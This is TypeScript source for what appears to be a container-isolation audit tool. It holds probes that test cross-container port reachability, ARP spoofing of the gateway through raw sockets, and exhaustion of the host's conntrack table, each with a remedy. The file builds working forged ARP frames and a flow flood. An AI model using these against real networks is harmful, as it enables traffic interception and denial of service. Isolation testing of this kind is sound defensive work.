/** The network between neighbours: who reaches whom, who can lie about addresses, whose flows take whose places. */
import { makeCanary } from '../../canary.ts'
import type { Call, Guest } from '../../guest-types.ts'
import { hostCommand } from '../../host-command.ts'
import { exchange, inetAddress, listenUdp, sendUdp } from '../../packets.ts'
import type { Probe, ProbeContext } from '../../probe.ts'
import type { Subject } from '../../target.ts'
import { absent, conclude, inconclusive } from '../../verdict.ts'
import { across } from './neighbours.ts'

export const NO_NETWORK = 'containers of this target have no network unless somebody gives them one'
const PORT = 4712

export interface Connected {
  readonly subject: Subject
  readonly guest: Guest
  readonly host: string
}

export async function connected(context: ProbeContext): Promise<Connected | undefined> {
  const subject = await context.create()
  const host = await subject.address()
  return host === undefined ? undefined : { subject, guest: await context.guest(subject), host }
}

export const discovery: Probe = {
  ...across,
  id: 'A29',
  slug: 'across.net.discovery',
  asset: 'names, ports',
  question: 'Does a container reach a port of another one that it never published?',
  method: 'On the default network one container sends a random word to a port on which another one listens.',
  references: ['T1046', 'T1613'],
  remedy: 'Put containers that need not speak with each other into networks of their own.',
  interference: 'none',
  async run(context) {
    const [victim, neighbour] = [await connected(context), await connected(context)]
    if (victim === undefined || neighbour === undefined) return absent(NO_NETWORK)
    const fd = await listenUdp(victim.guest, PORT)
    const control = makeCanary('control')
    const at = { guest: victim.guest, fd, host: victim.host, port: PORT }
    const own = await exchange(await context.guest(victim.subject), at, control)
    const arrived = await exchange(neighbour.guest, at, makeCanary('traffic'))
    return conclude({
      seen: arrived ? [{ kind: 'packet', text: `from ${neighbour.host} to ${victim.host}:${PORT}` }] : [],
      controls: [{ what: 'the container receives what it sends itself', held: own }],
      leak: 'Containers of the default network reach all ports of each other.',
      contained: 'The port that was not published is closed to the neighbour.',
    })
  },
}

const AF_PACKET = 17
const SOCK_RAW = 3
const ARP = 0x0806

interface Link {
  readonly name: string
  readonly index: number
  readonly address: Buffer
}

async function linkOf(guest: Guest): Promise<Link> {
  const names = (await guest.listFolder('/sys/class/net'))
    .map(({ name }) => name)
    .filter((name) => name !== 'lo')
  const [name = 'eth0'] = names
  const [index, address] = [
    await guest.readFile(`/sys/class/net/${name}/ifindex`),
    await guest.readFile(`/sys/class/net/${name}/address`),
  ]
  return { name, index: Number(index.toString()), address: bytesOf(address.toString().trim()) }
}

function bytesOf(mac: string): Buffer {
  return Buffer.from(mac.replaceAll(':', ''), 'hex')
}

/** The gateway of the default route, out of /proc/net/route (little-endian hex). */
export async function gatewayOf(guest: Guest): Promise<string | undefined> {
  const routes = (await guest.readFile('/proc/net/route')).toString().split('\n')
  const hex = routes.map((line) => line.split('\t')).find((fields) => fields[1] === '00000000')?.[2]
  return hex === undefined ? undefined : [...Buffer.from(hex, 'hex')].reverse().join('.')
}

/** The hardware address that the victim believes the gateway to have. */
async function believed(guest: Guest, gateway: string): Promise<string | undefined> {
  const table = (await guest.readFile('/proc/net/arp')).toString().split('\n')
  return table.map((line) => line.split(/\s+/)).find((fields) => fields[0] === gateway)?.[3]
}

/** Whether it comes to believe that; on a busy machine the kernel takes its time with a packet. */
async function believes(guest: Guest, gateway: string, address: string): Promise<boolean> {
  for (let looks = 0; looks < 30; looks += 1) {
    if ((await believed(guest, gateway)) === address) return true
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  return false
}

export const arpSpoof: Probe = {
  ...across,
  id: 'A28',
  slug: 'across.net.arp-raw',
  asset: 'traffic',
  question: 'Can a neighbour make a container believe that it is the gateway?',
  method: "A container sends another one a false ARP answer; the other one's table is read afterwards.",
  references: ['CVE-2020-13401', 'T1557.002'],
  remedy: 'Drop CAP_NET_RAW (--cap-drop NET_RAW), or use an engine that filters ARP on its bridge.',
  interference: 'none',
  async run(context) {
    const [victim, neighbour] = [await connected(context), await connected(context)]
    if (victim === undefined || neighbour === undefined) return absent(NO_NETWORK)
    const gateway = await gatewayOf(victim.guest)
    if (gateway === undefined) return absent('the container has no gateway')
    // The victim learns the true address first.
    for (let tries = 0; tries < 100 && (await believed(victim.guest, gateway)) === undefined; tries += 1) {
      await sendUdp(victim.guest, gateway, 9, Buffer.from('hello'))
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
    const before = await believed(victim.guest, gateway)
    // arp(7) locktime: an entry is not replaced within a second of its last confirmation.
    await new Promise((resolve) => setTimeout(resolve, 1500))
    const [mine, theirs] = [await linkOf(neighbour.guest), await linkOf(victim.guest)]
    const refused = await sendFrames(
      neighbour.guest,
      mine.index,
      falseAnswer(mine, theirs, gateway, victim.host),
    )
    const fooled = await believes(victim.guest, gateway, macOf(mine.address))
    const after = await believed(victim.guest, gateway)
    const shown = fooled || (await believesHost(context, { victim, mine, theirs, gateway }))
    const why = refused === '' ? 'its frames change nothing' : `it may send none (${refused})`
    return conclude({
      seen: fooled
        ? [{ kind: 'packet', text: `${gateway} is at ${after} now, was at ${before ?? 'nowhere'}` }]
        : [],
      controls: [
        { what: `the victim knows its gateway (${before ?? 'not'})`, held: before !== undefined },
        { what: 'the victim believes the same false answer when it comes from the host', held: shown },
      ],
      leak: "The neighbour has taken the gateway's place in the victim's table.",
      contained: `The neighbour cannot take the gateway's place: ${why}.`,
    })
  },
}

interface Lie {
  readonly victim: Connected
  readonly mine: Link
  readonly theirs: Link
  readonly gateway: string
}

/** The same answer from the bridge, where nobody filters it. */
async function believesHost(context: ProbeContext, { victim, mine, theirs, gateway }: Lie): Promise<boolean> {
  const { networkNamespace } = context.target
  const enter = networkNamespace === undefined ? [] : ['nsenter', `--net=${networkNamespace}`]
  const { stdout } = await hostCommand([...enter, 'ip', '-o', '-4', 'addr'])
  const line = stdout.split('\n').find((one) => one.includes(` ${gateway}/`)) ?? ''
  const engine = /^\/proc\/(\d+)\//.exec(networkNamespace ?? '')?.[1]
  const host = await context.observer(engine === undefined ? {} : { networkOf: Number(engine) })
  await sendFrames(host, Number(line.split(':')[0]), falseAnswer(mine, theirs, gateway, victim.host))
  return believes(victim.guest, gateway, macOf(mine.address))
}

function macOf(address: Buffer): string {
  return [...address].map((byte) => byte.toString(16).padStart(2, '0')).join(':')
}

/** An ARP answer, to the victim alone: GATEWAY is at my address. */
function falseAnswer(mine: Link, theirs: Link, gateway: string, victim: string): Buffer {
  const ip = (text: string): Buffer => Buffer.from(text.split('.').map(Number))
  return Buffer.concat([
    ...[theirs.address, mine.address, Buffer.from([ARP >> 8, ARP & 0xff])],
    Buffer.from([0, 1, 8, 0, 6, 4, 0, 2]),
    ...[mine.address, ip(gateway), theirs.address, ip(victim)],
  ])
}

/** The name of the error, '' when they went out. */
async function sendFrames(guest: Guest, index: number, frame: Buffer): Promise<string> {
  const address = Buffer.alloc(20)
  address.writeUInt16LE(AF_PACKET, 0)
  address.writeUInt16BE(ARP, 2)
  address.writeInt32LE(index, 4)
  address[11] = 6
  frame.copy(address, 12, 0, 6)
  const send: Call = {
    name: 'sendto',
    args: [{ result: 0 }, { in: frame }, frame.length, 0, { in: address }, 20],
    ends: true,
  }
  const answers = await guest.inChild([
    { name: 'socket', args: [AF_PACKET, SOCK_RAW, 0], ends: true },
    ...Array.from({ length: 5 }, () => send),
  ])
  return answers.find(({ error }) => error !== '')?.error ?? ''
}

const FLOWS = 2000
/** Where others' flows come and go meanwhile, a count may lie anywhere: nothing is said of what is neither all nor none. */
const MOST_TRIES = 5

/** Of so many more flows in the table, after the neighbour made FLOWS. */
export function judgeFlows(grown: number): 'taken' | 'not taken' | 'unclear' {
  if (grown > FLOWS / 2) return 'taken'
  // Fewer than there were are no proof of none: as many of others may have ended as the neighbour made.
  return Math.abs(grown) < FLOWS / 10 ? 'not taken' : 'unclear'
}

export const conntrack: Probe = {
  ...across,
  id: 'A12',
  slug: 'across.net.conntrack',
  asset: 'resources',
  question: "Can a neighbour fill the table of flows that all containers' connections need?",
  method: `One container makes ${FLOWS} flows; it is counted how many of them stand in the host's table.`,
  references: ['Demons 2021'],
  remedy: 'Raise net.netfilter.nf_conntrack_max, or use rules that do not track (notrack).',
  interference: 'bounded',
  async run(context) {
    const neighbour = await connected(context)
    if (neighbour === undefined) return absent(NO_NETWORK)
    if ((await flowsOf(context)) === undefined)
      return absent('this kernel tracks no flows where the engine is')
    const gateway = await gatewayOf(neighbour.guest)
    if (gateway === undefined) return absent('the container has no gateway')
    const fd = await listenUdp(neighbour.guest, PORT)
    for (let tries = 1; ; tries += 1) {
      context.signal.throwIfAborted()
      const before = await flowsOf(context)
      const went = await makeFlows(neighbour.guest, fd, { gateway, first: 10_000 + (tries - 1) * FLOWS })
      const after = await flowsOf(context)
      if (before === undefined || after === undefined)
        return inconclusive('the table of flows went away meanwhile')
      const grown = after.count - before.count
      const verdict = judgeFlows(grown)
      if (verdict === 'unclear' && tries < MOST_TRIES) continue
      const text = `${grown} more of at most ${after.most} flows in the table of all`
      return conclude({
        seen: verdict === 'taken' ? [{ kind: 'measurement', text }] : [],
        controls: [
          { what: `the neighbour sent (${went} of ${FLOWS})`, held: went > FLOWS / 2 },
          {
            what: `the table had room (${before.count} of ${after.most})`,
            held: before.count + FLOWS < after.most,
          },
          {
            what: `the count says all or nothing (${grown} of ${FLOWS}, try ${tries})`,
            held: verdict !== 'unclear',
          },
        ],
        leak: 'Each flow of a container takes a place in the one table of all, and nothing bounds it.',
        contained: `Its flows take no places there: ${grown} more.`,
      })
    }
  },
}

/** To ports of the gateway's from this one on; how many went out. */
async function makeFlows(
  guest: Guest,
  fd: bigint,
  { gateway, first }: { readonly gateway: string; readonly first: number },
): Promise<number> {
  const send = (index: number): Call => ({
    name: 'sendto',
    args: [fd, { in: Buffer.from('x') }, 1, 0x40, { in: inetAddress(gateway, first + index) }, 16],
  })
  const sent = await guest.batch(Array.from({ length: FLOWS }, (_, index) => send(index)))
  return sent.filter(({ error }) => error === '' || error === 'ECONNREFUSED').length
}

async function flowsOf({ target }: ProbeContext): Promise<{ count: number; most: number } | undefined> {
  const enter = target.networkNamespace === undefined ? [] : ['nsenter', `--net=${target.networkNamespace}`]
  const folder = '/proc/sys/net/netfilter'
  const files = [`${folder}/nf_conntrack_count`, `${folder}/nf_conntrack_max`]
  const { stdout, code } = await hostCommand([...enter, 'cat', ...files])
  const [count, most] = stdout.trim().split('\n').map(Number)
  return code !== 0 || count === undefined || most === undefined ? undefined : { count, most }
}
